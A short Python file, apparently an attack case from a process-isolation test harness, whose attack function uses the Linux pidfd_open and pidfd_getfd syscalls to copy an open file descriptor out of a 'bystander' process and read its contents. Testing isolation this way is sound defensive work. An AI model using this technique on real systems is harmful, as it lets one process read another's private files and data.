"""Take an open file out of another process."""
import ctypes
import os


def attack(x):
    libc = ctypes.CDLL(None)
    process = libc.syscall(434, SCENE["bystander_pid"], 0)
    return os.read(libc.syscall(438, process, SCENE["bystander_file"], 0), 1000).decode()
